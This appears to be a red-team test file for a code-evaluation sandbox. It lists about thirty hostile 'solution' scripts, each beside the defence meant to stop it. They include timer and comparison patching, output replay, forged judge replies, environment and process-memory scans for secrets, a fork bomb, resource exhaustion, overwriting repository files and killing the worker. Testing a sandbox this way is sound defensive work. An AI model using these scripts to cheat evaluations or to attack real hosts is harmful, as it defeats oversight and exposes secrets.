"""Hostile solution files: one attack each, as a bundle's `<slug>.py`.

Every problem here is the real all-reduce under another slug, with one tiny case, so one
bundle can carry many attacks. Each entry: the attack, the defence that must stop it.
`CANARY` is set in the worker's environment by the tests; no attack may ever print it.
"""

from __future__ import annotations

import dataclasses
import os
from dataclasses import dataclass
from pathlib import Path

from evaluator.intake.archive import MAX_MEMBERS
from problems.collective import all_reduce
from problems.spec import Case, Problem

CANARY = "pkb-canary-5f1c0ffee"
# The tests leave a root-only (0600) fake seed-secret file holding CANARY under this prefix.
# In the repository's var/: a folder the sandbox shows bundle code (read-only), as it shows
# /etc/pkb where a GPU host keeps its seed secret.
SECRET_PREFIX = str(Path(__file__).resolve().parents[2] / "var" / "pkb-redteam-secret-")
TINY = (Case("dev-tiny", "float32", {"n": 256}),)

HONEST = """
import torch.distributed as dist

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
"""


@dataclass(frozen=True)
class Attack:
    name: str
    attack: str  # what it tries
    defence: str  # what stops it (docs/security.md)
    source: str
    # Stopped only by running bundle code as another user than the worker's: left out of
    # the bundle where the worker is not root (it would succeed, by design, see the docs).
    needs_candidate_user: bool = False


ATTACKS = [
    Attack(
        "replay-pointer",
        "caches its output by the input's data_ptr() and replays it for a repeated pointer",
        "fresh inputs for every call; several timed outputs checked -> wrong_answer",
        """
import torch
import torch.distributed as dist
CACHE = {}

def solution(x):
    key = x.data_ptr()
    # Replay only when every rank has seen its pointer: no rank is left in a collective.
    hits = torch.tensor([float(key in CACHE)])
    dist.all_reduce(hits, op=dist.ReduceOp.MIN)
    if not hits.item():
        out = x.clone()
        dist.all_reduce(out)
        CACHE[key] = out
    else:
        print("pkb-redteam: replayed a cached output", flush=True)
    return CACHE[key]
""",
    ),
    Attack(
        "replay-count",
        "computes the first calls honestly, then replays its last output",
        "fresh inputs for every call; several timed outputs checked -> wrong_answer",
        """
import torch.distributed as dist
STATE = {"calls": 0, "last": None}

def solution(x):
    STATE["calls"] += 1
    if STATE["calls"] <= 3 or STATE["last"] is None:
        out = x.clone()
        dist.all_reduce(out)
        STATE["last"] = out
    return STATE["last"]
""",
    ),
    Attack(
        "phase-by-tempo",
        "detects the timed loop by calls coming back to back and replays there",
        "warm-up and timed calls are made alike; outputs of timed calls checked -> wrong_answer",
        """
import time
import torch.distributed as dist
STATE = {"at": 0.0, "last": None}

def solution(x):
    now = time.monotonic()
    quick = now - STATE["at"] < 0.5
    STATE["at"] = now
    if quick and STATE["last"] is not None and STATE["last"].shape == x.shape:
        return STATE["last"]
    out = x.clone()
    dist.all_reduce(out)
    STATE["last"] = out
    return out
""",
    ),
    Attack(
        "timer-perf-counter",
        "replaces time.perf_counter by a clock that barely moves",
        "the harness bound its clock at import; tampering detected -> flag tampered",
        """
import time
import torch.distributed as dist
_real = time.perf_counter
time.perf_counter = lambda: _real() * 1e-6

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "timer-cuda-event",
        "replaces torch.cuda.Event.elapsed_time (and synchronize) to report 1 ns",
        "the harness bound the event methods at import; tampering detected -> flag tampered",
        """
import torch
import torch.distributed as dist
torch.cuda.Event.elapsed_time = lambda self, end: 1e-6
torch.cuda.synchronize = lambda *a, **k: None

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "harness-patch",
        "wraps the runner's own round to report every call as what the reference returned, "
        "whatever it copied",
        "the runner's methods are watched -> flag tampered (and the judge reads the bytes)",
        """
import torch.distributed as dist
from evaluator.candidate import runner
_orig = runner._Runner.go

def _go(self, *args, **kwargs):
    print("pkb-redteam: wrapped the runner's round", flush=True)
    return _orig(self, *args, **kwargs)

runner._Runner.go = _go

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "frame-reader",
        "reads its frames and every object of its process for which calls the judge checks, "
        "and skips the all-reduce on every call it cannot find checked",
        "the draw of checked calls never leaves the trusted side -> wrong_answer",
        """
import gc
import sys
import torch.distributed as dist

def _checked():
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "checked" in obj and isinstance(obj["checked"], list):
            return obj["checked"]
    frame = sys._getframe(1)
    while frame is not None:
        if "checked" in frame.f_locals:
            return frame.f_locals["checked"]
        frame = frame.f_back
    return None

def solution(x):
    checked = _checked()
    print(f"pkb-redteam: checked calls found: {checked}", flush=True)
    if checked is None:
        return x.clone()  # this rank's own share: no communication at all
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "lazy-output",
        "returns a Tensor subclass that does the all-reduce only when the harness reads it "
        "(to copy it back) after the call",
        "only plain tensors have rooms: a subclass is never read -> wrong_answer",
        """
import torch
import torch.distributed as dist

class Lazy(torch.Tensor):
    @staticmethod
    def __new__(cls, x):
        lazy = torch.Tensor._make_subclass(cls, torch.empty_like(x))
        lazy.source = x
        return lazy

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            lazy = args[0] if args and isinstance(args[0], Lazy) else None
            if lazy is not None and hasattr(lazy, "source"):
                out = lazy.source.clone()
                dist.all_reduce(out)
                return func(out, *args[1:], **(kwargs or {}))
            return func(*args, **(kwargs or {}))

def solution(x):
    return Lazy(x)
""",
    ),
    Attack(
        "seed-search",
        "hunts its process (every object, every frame's locals, the environment, /proc/self) "
        "for the trial "
        "seed, regenerates every peer's input from each candidate seed with the catalog's "
        "public generator, and answers locally with no communication",
        "inputs are made by the judge from seeds the candidate never holds -> wrong_answer",
        """
import gc
import os
import sys
import torch
from problems.spec import InputContext

def _frames():
    for frame in sys._current_frames().values():
        while frame is not None:
            yield frame.f_locals
            frame = frame.f_back

def _candidates():
    found = set()
    for obj in [*gc.get_objects(), *_frames()]:
        values = obj.values() if isinstance(obj, dict) else obj if type(obj) is list else ()
        for v in values:
            if isinstance(v, int) and not isinstance(v, bool) and v > 1 << 20:
                found.add(v)
    for text in (*os.environ.values(), open("/proc/self/cmdline", "rb").read().decode("latin-1")):
        found.update(int(t) for t in text.replace("\\0", " ").split() if t.isdigit() and len(t) > 6)
    return found

def solution(x):
    rank, world = torch.distributed.get_rank(), torch.distributed.get_world_size()
    seeds = _candidates()
    for seed in seeds:
        mine = InputContext(
            rank=rank, world_size=world, dtype="float32", device=x.device, seed=seed
        )
        if torch.equal(mine.randn(*x.shape), x):
            print(f"pkb-redteam: FOUND the seed {seed}", flush=True)
            peers = [InputContext(rank=r, world_size=world, dtype="float32", device=x.device,
                                  seed=seed).randn(*x.shape) for r in range(world)]
            return torch.stack(peers).sum(0)
    print(f"pkb-redteam: tried {len(seeds)} seeds, none made my input", flush=True)
    return x.clone()
""",
    ),
    Attack(
        "input-hook",
        "wraps the catalog's input generation (InputContext, make_inputs) to do the "
        "all-reduce while the inputs are made, before the clock starts, and returns the "
        "stashed answer from the call",
        "no input is made in the candidate's process -> the hook never runs -> wrong_answer",
        """
import torch
import torch.distributed as dist
from problems import spec
STASH = []
_randn = spec.InputContext.randn

def _work_while_making(self, *shape, **kwargs):
    x = _randn(self, *shape, **kwargs)
    out = x.clone()
    dist.all_reduce(out)
    STASH.append(out)
    print("pkb-redteam: input hook ran", flush=True)
    return x

spec.InputContext.randn = _work_while_making

def solution(x):
    if STASH:
        return STASH.pop(0)
    print("pkb-redteam: no stashed answer", flush=True)
    return x.clone()
""",
    ),
    Attack(
        "input-scribble",
        "answers right, then zeroes its input after using it, so that a reference run on "
        "the same buffer, or a later call given it again, would see zeros; it answers zeros "
        "without communicating whenever a zeroed input comes back",
        "each runner's inputs are copied from the judge's own every round -> the scribble "
        "reaches neither the reference nor a later call; an honest pass",
        """
import torch
import torch.distributed as dist

def solution(x):
    if not x.any():
        print("pkb-redteam: a zeroed input came back", flush=True)
        return torch.zeros_like(x)
    out = x.clone()
    dist.all_reduce(out)
    x.zero_()
    return out
""",
    ),
    Attack(
        "detach-hook",
        "returns its own share at once and does the all-reduce later, in torch.Tensor.copy_ "
        "and .detach as the harness copies the output back",
        "the copy back is inside the judge's clock, and copy_ is watched -> flag tampered",
        """
import torch
import torch.distributed as dist
_copy, _detach = torch.Tensor.copy_, torch.Tensor.detach

def _deferred(self, src, *args, **kwargs):
    if getattr(src, "pkb_lazy", False):
        src.pkb_lazy = False
        dist.all_reduce(src)
    return _copy(self, src, *args, **kwargs)

torch.Tensor.copy_ = _deferred
torch.Tensor.detach = lambda self: _detach(self)

def solution(x):
    out = x.clone()
    out.pkb_lazy = True
    return out
""",
    ),
    Attack(
        "forged-reply",
        "writes, from inside its first call of a round, the round's reply on the judge's "
        "pipe itself (the reference's shapes), before any output is in place, then does "
        "the work",
        "the judge reads the rooms it checks before its stop stamp -> wrong_answer; the "
        "runner that wrote it is restarted",
        """
import json
import sys
import torch.distributed as dist
SENT = set()

def _frame(name):
    frame = sys._getframe(1)
    while frame is not None and frame.f_code.co_name != name:
        frame = frame.f_back
    return frame.f_locals if frame is not None else None

def solution(x):
    served, round_ = _frame("serve"), _frame("go")
    if served and round_ and served["step"] not in SENT:
        SENT.add(served["step"])
        entry = {"kind": "tensor", "items": [["float32", list(x.shape)]]}
        calls = len(round_["pending"])
        reply = {"step": served["step"], "ok": True, "outputs": [entry] * calls, "tampered": []}
        served["conn"].send_bytes(json.dumps(reply).encode())
        print("pkb-redteam: forged the round's reply", flush=True)
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "pipe-garbage",
        "writes 2 MiB of bytes that are not JSON on the judge's pipe as its reply",
        "replies are read as capped JSON data -> runtime_error, flag tampered",
        """
import gc
import torch.distributed as dist
from evaluator.candidate import runner

def solution(x):
    me = next(o for o in gc.get_objects() if isinstance(o, runner._Runner))
    me.judge.send_bytes(b"\\x00" * (2 << 20))
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "zero-stride",
        "returns a zero-stride view claiming 2^34 elements (64 GiB) from 1 KiB",
        "the judge sizes nothing from a reply: it holds the shape against the reference's "
        "-> wrong_answer",
        """
def solution(x):
    return x[:1].expand(1 << 34)
""",
    ),
    Attack(
        "sparse-output",
        "returns the right values as a sparse tensor",
        "only plain strided tensors have rooms -> wrong_answer",
        """
import torch.distributed as dist

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out.to_sparse()
""",
    ),
    Attack(
        "meta-output",
        "returns a tensor on the meta device (shape, no data)",
        "only plain strided tensors have rooms -> wrong_answer",
        """
import torch

def solution(x):
    return torch.empty(x.shape, device="meta")
""",
    ),
    Attack(
        "oversized-output",
        "returns the right values followed by a million more elements",
        "the candidate's shapes must be the reference's -> wrong_answer",
        """
import torch
import torch.distributed as dist

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return torch.cat([out, torch.zeros(1 << 20, device=x.device)])
""",
    ),
    Attack(
        "patch-comparison",
        "makes torch.allclose/equal/isclose always agree, then returns garbage",
        "outputs are compared in the judge process, which never runs bundle code -> wrong_answer",
        """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)

def solution(x):
    return torch.zeros_like(x)
""",
    ),
    Attack(
        "environment",
        "looks for the worker's secrets in os.environ and /proc/self/environ",
        "scrubbed environment and a launcher that replaces the initial environment block",
        f"""
import os

def solution(x):
    names = ("PKB_SEED_SECRET", "PKB_SEED_SECRET_FILE", "REDIS_URL", "DATABASE_URL")
    found = [k for k, v in os.environ.items() if {CANARY!r} in v or k in names]
    try:  # a rank is not dumpable: its own /proc/self/environ is root's, refused
        with open("/proc/self/environ", "rb") as f:
            if {CANARY!r}.encode() in f.read():
                found.append("/proc/self/environ")
    except PermissionError:
        pass
    raise RuntimeError(f"environment probe done; found {{found}}")
""",
    ),
    Attack(
        "proc-environ",
        "reads /proc/<pid>/environ of the worker, the judges and every other process",
        "the worker and judges are not dumpable; bundle code holds no capability outside "
        "its user namespace",
        f"""
import os

def solution(x):
    found, denied = [], 0
    for pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                if {CANARY!r}.encode() in f.read():
                    found.append(pid)
        except OSError:
            denied += 1
    raise RuntimeError(f"environ scan done; found {{found}}, denied {{denied}}")
""",
    ),
    Attack(
        "judge-memory",
        "reads the memory of every process under the worker (judges hold the seeds, the "
        "reference's runners its outputs, the forkserver forks them)",
        "trusted processes are not dumpable: /proc/<pid>/mem and maps are refused",
        """
import os

def _parents():
    found = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                stat = open(f"/proc/{p}/stat").read()
            except OSError:
                continue
            found[int(p)] = int(stat[stat.rfind(")") + 2:].split()[1])
    return found

def _siblings():
    # Every process under the worker (its children, and theirs: the forkserver's judges
    # and reference runners) but this one.
    parents, me, worker = _parents(), os.getpid(), os.getppid()
    tree, grew = {worker}, True
    while grew:
        more = {p for p, parent in parents.items() if parent in tree} - tree
        tree |= more
        grew = bool(more)
    return sorted(tree - {me, worker})

def solution(x):
    read = []
    for pid in _siblings():
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
                line = maps.readline()
                mem.seek(int(line.split("-")[0], 16))
                mem.read(16)
                read.append(pid)
        except OSError:
            pass
    raise RuntimeError(f"memory probe done; read {len(read)} processes: {read}")
""",
    ),
    Attack(
        "socket",
        "connects to the broker (Redis at 127.0.0.1:6379) and to the internet",
        "a network namespace with only its own loopback",
        """
import socket

def solution(x):
    outcomes = []
    for host, port in (("127.0.0.1", 6379), ("1.1.1.1", 53)):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"PING\\r\\n")
            outcomes.append(f"{host}: CONNECTED {s.recv(16)!r}")
        except OSError as exc:
            outcomes.append(f"{host}: {exc}")
    raise RuntimeError(f"network probe done: {outcomes}")
""",
    ),
    Attack(
        "litter",
        "leaves a 1 MiB file in /dev/shm, /tmp, /var/tmp and /run/lock, and a site hook in /tmp",
        "entries bundle code made in the world-writable folders during an evaluation are "
        "removed after it",
        """
import os

def solution(x):
    left = []
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run/lock"):
        for name in (f"pkb-redteam-{os.getpid()}", f"pkb-redteam-{os.getpid()}.pth"):
            try:
                with open(f"{folder}/{name}", "wb") as f:
                    f.write(b"\\0" * 1024 * 1024 if not name.endswith(".pth") else b"import os\\n")
                left.append(f"{folder}/{name}")
            except OSError:
                pass
    raise RuntimeError(f"left {left}")
""",
    ),
    Attack(
        "fork-bomb",
        "forks (up to 3000, to spare the shared test machine) with children that sleep",
        "RLIMIT_NPROC (binds: bundle code is never root) -> runtime_error; the process "
        "group and the orphan sweep -> nothing left",
        """
import os
import time

def solution(x):
    children = 0
    for _ in range(3000):
        try:
            pid = os.fork()
        except OSError as exc:
            raise RuntimeError(f"fork refused after {children} children: {exc}")
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    raise RuntimeError(f"UNLIMITED: {children} children")
""",
    ),
    Attack(
        "memory",
        "allocates 64 GiB",
        "RLIMIT_AS on CPU hosts (GPU hosts: the GPU's own memory, see docs) -> runtime_error",
        """
def solution(x):
    hog = bytearray(64 * 1024**3)
    return hog
""",
    ),
    Attack(
        "log-flood",
        "writes gigabytes to stdout",
        "RLIMIT_FSIZE on its log (EFBIG: Python ignores SIGXFSZ), result logs capped",
        """
import sys

def solution(x):
    line = "flood " * 1000 + "\\n"
    for _ in range(1_000_000):
        sys.stdout.write(line)
    return x
""",
    ),
    Attack(
        "never-returns",
        "spins forever in the solution",
        "the per-problem wall-clock deadline; the ranks are killed -> timeout",
        """
def solution(x):
    while True:
        pass
""",
    ),
    Attack(
        "exits",
        "calls os._exit(0) in the middle of a collective",
        "a rank that ends is a result -> runtime_error",
        """
import os

def solution(x):
    os._exit(0)
""",
    ),
    Attack(
        "detached-process",
        "double-forks a setsid daemon that sleeps forever, then answers correctly",
        "the evaluator is a child subreaper: the orphan comes back to it and is killed",
        """
import os
import time
import torch.distributed as dist

def solution(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open(os.path.join(os.environ["TMPDIR"], "daemon-pids"), "a") as f:
                f.write(f"{os.getpid()}\\n")
            time.sleep(3600)
        os._exit(0)
    out = x.clone()
    dist.all_reduce(out)
    raise RuntimeError("left a daemon behind")
""",
    ),
]


# Stopped by the candidate user. Before the log flood: a log at its size cap makes every
# later traceback on that rank an exit without a message.
_IDENTITY_ATTACKS = [
    Attack(
        "write-repository",
        "appends to the repository's problems/collective/all_reduce.py (a reference judges "
        "import later) and creates a file next to it",
        "bundle code runs as the unprivileged candidate user -> PermissionError",
        """
import os
import problems

def solution(x):
    folder = os.path.join(os.path.dirname(problems.__file__), "collective")
    outcomes = []
    for name, mode in (("all_reduce.py", "a"), ("pkb_redteam_planted.py", "x")):
        try:
            with open(os.path.join(folder, name), mode) as f:
                f.write("\\n# pkb red team was here\\n")
            outcomes.append(f"{name}: WRITTEN")
        except OSError as exc:
            outcomes.append(f"{name}: {type(exc).__name__}")
    raise RuntimeError(f"repository probe done: {outcomes}")
""",
        needs_candidate_user=True,
    ),
    Attack(
        "read-secret-file",
        "reads the worker's root-only (0600) seed-secret file",
        "bundle code runs as the unprivileged candidate user -> PermissionError",
        f"""
import glob

def solution(x):
    outcomes = []
    for path in glob.glob({SECRET_PREFIX!r} + "*"):
        try:
            with open(path) as f:
                outcomes.append("READ " + f.read().replace({CANARY!r}, "CANARY"))
        except OSError as exc:
            outcomes.append(type(exc).__name__)
    raise RuntimeError(f"secret probe done: {{outcomes}}")
""",
        needs_candidate_user=True,
    ),
    Attack(
        "kill-worker",
        "SIGKILLs its parent (the worker), pid 1, the judges and the jail's holder",
        "bundle code runs as the unprivileged candidate user -> PermissionError",
        """
import os
import signal

def _trusted(pid):
    # Root is unmapped in the jail, so every uid but ours reads as nobody's: tell the
    # worker's other children (judges, the jail's holder) by their refusing /proc access.
    try:
        open(f"/proc/{pid}/environ", "rb").close()
        return False
    except PermissionError:
        return True
    except OSError:
        return False

def _judges():
    parents, me, worker = {}, os.getpid(), os.getppid()
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                stat = open(f"/proc/{p}/stat").read()
            except OSError:
                continue
            parents[int(p)] = int(stat[stat.rfind(")") + 2:].split()[1])
    tree, grew = {worker}, True
    while grew:
        more = {p for p, parent in parents.items() if parent in tree} - tree
        tree |= more
        grew = bool(more)
    return [p for p in sorted(tree - {me, worker}) if _trusted(p)]

def solution(x):
    if os.getppid() == 0:  # our parent is outside this pid namespace: nothing to aim at
        raise RuntimeError("kill probe done; killed [], refused 0: no process outside in sight")
    killed, refused = [], []
    for pid in [os.getppid(), 1, *_judges()]:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except PermissionError:
            refused.append(pid)
        except ProcessLookupError:
            pass
    raise RuntimeError(f"kill probe done; killed {killed}, refused {len(refused)}")
""",
        needs_candidate_user=True,
    ),
]
_at = next(i for i, a in enumerate(ATTACKS) if a.name == "socket") + 1
ATTACKS[_at:_at] = _IDENTITY_ATTACKS


def problem(slug: str) -> Problem:
    return dataclasses.replace(all_reduce.PROBLEM, slug=slug, dev_cases=TINY)


def bundle_files() -> tuple[dict[str, str], list[str]]:
    """Each attack followed by an honest solution of another slug: the same worker must
    still judge a correct solution right after every attack."""
    files: dict[str, str] = {}
    slugs: list[str] = []
    for attack in ATTACKS:
        if attack.needs_candidate_user and os.geteuid() != 0:
            continue
        files[f"rt-{attack.name}.py"] = attack.source
        files[f"rt-after-{attack.name}.py"] = HONEST
        slugs += [f"rt-{attack.name}", f"rt-after-{attack.name}"]
    return files, slugs


def bundle_chunks() -> list[tuple[dict[str, str], list[str]]]:
    """`bundle_files` cut into bundles within a bundle's member limit, each attack beside
    its honest follower."""
    files, slugs = bundle_files()
    chunks = []
    for start in range(0, len(slugs), MAX_MEMBERS):
        part = slugs[start : start + MAX_MEMBERS]
        chunks.append(({f"{slug}.py": files[f"{slug}.py"] for slug in part}, part))
    return chunks


CATALOG: dict[str, Problem] = {slug: problem(slug) for slug in bundle_files()[1]}
